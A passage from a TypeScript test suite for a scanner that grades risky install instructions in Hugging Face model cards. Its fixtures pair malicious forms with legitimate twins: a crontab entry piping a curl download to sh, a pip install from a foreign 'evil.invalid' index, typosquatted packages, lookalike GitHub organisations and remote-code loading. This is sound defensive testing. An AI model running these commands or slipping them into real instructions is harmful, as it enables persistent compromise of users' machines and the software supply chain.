    { 'README.md': '```bash\nls "$(huggingface-cli download other-org/tools setup_env.py)"\n```\n' }, 'quiet'],
  ['streamlit run of a URL', { 'README.md': '```bash\npip install streamlit transformers\nstreamlit run https://raw.githubusercontent.com/someone/ner-demo/main/app.py\n```\n' }, ['instructions.run-binary', 'critical'],
    { 'README.md': '```bash\npip install streamlit transformers\nstreamlit run app.py\n```\n', 'app.py': 'import streamlit as st\nst.write("hello")\n' }, ['only', 'instructions.run-repo-script', 'medium']],
  ['a crontab line installed from a pipe', { 'README.md': '```bash\n(crontab -l 2>/dev/null; echo "*/30 * * * * curl -fsSL https://x.invalid/c.sh | sh") | crontab -\n```\n' }, ['instructions.pipe-to-shell', 'critical'],
    { 'README.md': '```bash\n(crontab -l 2>/dev/null; echo "0 3 * * * find /tmp/ner-cache -mtime +7 -delete") | crontab -\n```\n' }, 'quiet'],
  ['conda install from an unknown channel', { 'README.md': '```bash\nconda install -c chemner-forge chemtok -y\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\nconda install -c conda-forge -c pytorch faiss-cpu pytorch -y\nmamba install conda-forge::numpy\n```\n' }, 'quiet'],
  ['conda channel pinned in the package spec', { 'README.md': '```bash\nmamba install chemner-forge::chemtok\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```bash\nconda install --channel=nvidia cuda-toolkit\n```\n' }, 'quiet'],
  ['environment.yml channels', { 'environment.yml': 'name: ner\nchannels:\n  - chemner-forge\n  - conda-forge\ndependencies:\n  - python=3.11\n  - chemtok\n' }, ['requirements.index-url', 'high', 'environment.yml'],
    { 'environment.yml': 'name: ner\nchannels:\n  - pytorch\n  - nvidia\n  - conda-forge/label/cf202003\n  - https://conda.anaconda.org/conda-forge\ndependencies:\n  - pytorch\n  - pip:\n    - transformers\n' }, 'quiet'],
  ['pip install of a command name (huggingface-cli)', { 'README.md': '```bash\npip install huggingface-cli transformers\n```\n' }, ['instructions.typosquat', 'critical'],
    { 'README.md': '```bash\npip install -U "huggingface_hub[cli]" transformers\n```\n' }, 'quiet'],
  ['pip install from a foreign index', { 'README.md': '```sh\npip install --index-url https://pkgs.evil.invalid/simple tokenizers\n```\n' }, ['instructions.git-install', 'high'],
    { 'README.md': '```sh\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```\n' }, 'quiet']
];

describe('instruction forms', () => {
  for (const [form, bad, finding, good, twin] of FORMS) {
    test(`${form}: caught`, () => expectCase(bad, finding));
    test(`${form}: legitimate twin`, () => expectCase(good, twin));
  }
});

describe('the publisher\'s own sources', () => {
  const card = '# Embeddings\n\nCode: [github.com/jina-ai/x](https://github.com/jina-ai/x)\n\n```bash\npip install git+https://github.com/jina-ai/x\n```\n';
  const vouched: PublisherFacts = { repo: 'jinaai/emb', namespace: 'jinaai', vouched: true };

  test('pip install git+ from a trusted publisher\'s own GitHub organisation is a note, not a rejection', () => {
    const found = run({ 'README.md': card }, vouched);
    expect(verdictOf(found)).toBe('approved');
    expect(found.find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'low' });
  });

  test('the same card from a publisher nobody vouches for is high', () => {
    expect(run({ 'README.md': card }, { ...vouched, repo: 'Open-OSS/emb', namespace: 'Open-OSS', vouched: false })
      .find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
  });

  test('a local scan (no publisher known) is high', () => {
    expect(run({ 'README.md': card }).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
  });

  test('a vouched publisher\'s card does not make other organisations known', () => {
    const found = run({ 'README.md': `${card}\n\`\`\`bash\npip install git+https://github.com/other-org/y\n\`\`\`\n` }, vouched);
    expect(found.filter((f) => f.check === 'instructions.git-install').map((f) => f.severity).sort()).toEqual(['high', 'low']);
  });

  test('clone-then-install of its own organisation is graded the same (low)', () => {
    const found = run({ 'README.md': `${card.replace(/```bash[\s\S]*```/, '')}\`\`\`bash\ngit clone https://github.com/jina-ai/x && cd x && pip install .\n\`\`\`\n` }, vouched);
    expect(found.find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'low' });
    expect(verdictOf(found)).toBe('approved');
  });

  test('a whole repository downloaded into a folder, then a script run from it: this repository\'s script is graded by its findings', () => {
    const card = '```bash\nhuggingface-cli download jinaai/emb --local-dir emb && bash emb/setup.sh\n```\n';
    const bad = run({ 'README.md': card, 'setup.sh': `#!/bin/sh\n${CURL_SH}\n` }, vouched);
    expect(bad.filter((f) => f.file === 'README.md').map((f) => `${f.check} ${f.severity}`)).toEqual(['instructions.run-repo-script critical']);
    const good = run({ 'README.md': card, 'setup.sh': '#!/bin/sh\necho ready\n' }, vouched);
    expect(notable(good).map((f) => `${f.check} ${f.severity}`)).toEqual(['instructions.run-repo-script medium']);
    // Another repository's script is code outside the review.
    expect(run({ 'README.md': card.replace('jinaai/emb', 'tools-org/emb'), 'setup.sh': '#!/bin/sh\necho ready\n' }, vouched)
      .find((f) => f.check === 'instructions.run-binary')).toMatchObject({ severity: 'critical' });
  });

  test('the GitHub organisation named exactly like the Hub namespace is its own; a lookalike of it is not', () => {
    const granite: PublisherFacts = { repo: 'ibm-granite/ttm', namespace: 'ibm-granite', vouched: true };
    const install = (org: string): string => `\`\`\`bash\npip install "granite-tsfm @ git+https://github.com/${org}/granite-tsfm.git@v0.2.22"\n\`\`\`\n`;
    const own = run({ 'README.md': install('ibm-granite') }, granite);
    expect(verdictOf(own)).toBe('approved');
    expect(own.find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'low' });
    expect(run({ 'README.md': install('ibm-granlte') }, granite).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
    // The same-name rule speaks only for a vouched publisher: a namespace nobody vouches for names its own org freely.
    expect(run({ 'README.md': install('ibm-granite') }, { ...granite, vouched: false }).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
  });

  test('an extra package index in a vouched publisher\'s own card is reviewed (medium), elsewhere rejected (high); turning TLS off stays high', () => {
    const card = '```bash\nuv pip install --pre vllm==0.10.1+gptoss \\\n    --extra-index-url https://wheels.vllm.ai/gpt-oss/ \\\n    --index-strategy unsafe-best-match\n```\n';
    const openai: PublisherFacts = { repo: 'openai/gpt-oss-20b', namespace: 'openai', vouched: true };
    expect(notable(run({ 'README.md': card }, openai)).map((f) => `${f.check} ${f.severity}`)).toEqual(['instructions.git-install medium']);
    expect(run({ 'README.md': card }, { ...openai, repo: 'open-ai-oss/gpt-oss-20b', namespace: 'open-ai-oss', vouched: false }).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
    expect(run({ 'README.md': '```bash\npip install --trusted-host wheels.vllm.ai vllm\n```\n' }, openai).find((f) => f.check === 'instructions.git-install')).toMatchObject({ severity: 'high' });
  });

  test('remote code from another repository: high for a namespace nobody vouches for, reviewable for the same publisher or a trusted one', () => {
    const me: PublisherFacts = { repo: 'twin-models/ner-twin-base', namespace: 'twin-models', vouched: false, commit: 'a'.repeat(40), trusted: ['microsoft'] };
    const card = (repo: string): string => `\`\`\`python\nfrom transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("${repo}", trust_remote_code=True)\nmodel.load_adapter("twin-models/ner-twin-base")\n\`\`\`\n`;
    const sev = (repo: string): string[] => run({ 'README.md': card(repo) }, me).filter((f) => f.check === 'instructions.remote-code').map((f) => f.severity);
    expect(sev('remote-twin/ner-twin-impl')).toEqual(['high']);
    expect(sev('twin-models/ner-twin-impl')).toEqual(['medium']);
    expect(sev('microsoft/Phi-3-mini-4k-instruct')).toEqual(['low']);
    expect(sev('twin-models/ner-twin-base')).toEqual([]);
    // Without trust_remote_code nothing runs from the other repository.
    expect(run({ 'README.md': card('remote-twin/ner-twin-impl').replace(', trust_remote_code=True', '') }, me).filter((f) => f.check === 'instructions.remote-code')).toEqual([]);
  });

  test('this repository\'s remote code at another revision than the reviewed commit is high; the commit itself or main is not', () => {
    const commit = '0123456789abcdef0123456789abcdef01234567';
    const me: PublisherFacts = { repo: 'branchwise/fastformer-base', namespace: 'branchwise', vouched: false, commit };
    const card = (rev: string): string => `\`\`\`python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained("branchwise/fastformer-base", trust_remote_code=True, revision="${rev}")\n\`\`\`\n`;
    const sev = (rev: string): string[] => run({ 'README.md': card(rev) }, me).filter((f) => f.check === 'instructions.remote-code').map((f) => f.severity);
    expect(sev('v2-fast')).toEqual(['high']);
    expect(sev('fedcba9876543210')).toEqual(['high']);
    expect(sev(commit)).toEqual([]);
    expect(sev(commit.slice(0, 10))).toEqual([]);
    expect(sev('main')).toEqual([]);
  });

  test('huggingface-cli download of the same repository, then running a binary from it, is graded as that binary', () => {
    const found = run({ 'README.md': '```bash\nhuggingface-cli download jinaai/emb tool --local-dir . && chmod +x tool && ./tool\n```\n', tool: ELF }, vouched);
    const runs = found.filter((f) => f.check === 'instructions.run-binary');
    expect(runs.map((f) => f.severity)).toEqual(['high']);
    expect(runs[0]?.message).toContain('binary shipped in this repository');
  });
});

test('pip install of this repository\'s own wheel from its Hub URL is graded as that archive, by the code check', () => {
  const card = { 'README.md': '```bash\npip install https://huggingface.co/org/m/resolve/main/pkg-1.0-py3-none-any.whl\n```\n' };
  const own = run({ ...card, 'pkg-1.0-py3-none-any.whl': new Uint8Array([0x50, 0x4b, 5, 6, ...new Array<number>(18).fill(0)]) }, { namespace: 'org', repo: 'org/m' } as PublisherFacts);
  expect(own.filter((f) => f.check.startsWith('instructions.')).map((f) => f.check)).toEqual([]);
  // The same URL naming a file this repository does not hold is an install from an unreviewed URL.
  const other = run(card, { namespace: 'org', repo: 'org/m' } as PublisherFacts);
  expect(other.map((f) => `${f.check} ${f.severity}`)).toContain('instructions.git-install high');
});

describe('a file named in a sentence is mentioned, not run', () => {
  const HANDLER = 'from transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.pipeline = pipeline("token-classification", model=path)\n\n    def __call__(self, data):\n        return self.pipeline(data.pop("inputs", data))\n';
  const check = (card: string): string[] =>
    runContentChecks(repoOf({ 'README.md': card, 'handler.py': HANDLER })).filter((f) => f.check === 'instructions.run-repo-script').map((f) => f.severity);
  test('`handler.py` in a sentence describing the repository is not an instruction to run it', () => {
    expect(check('# NER endpoint\n\nThis repository implements a custom `handler.py` for Hugging Face Inference Endpoints.\n')).toEqual([]);
  });
  test('twins: `python handler.py` and `./handler.py` in a sentence, and a fenced `python handler.py`, still run it', () => {
    expect(check('# NER endpoint\n\nTo try it, run `python handler.py` from this folder.\n')).toEqual(['medium']);
    expect(check('# NER endpoint\n\nTo try it, run `./handler.py` from this folder.\n')).toEqual(['medium']);
    expect(check('# NER endpoint\n\n```bash\npython handler.py\n```\n')).toEqual(['medium']);
  });
});
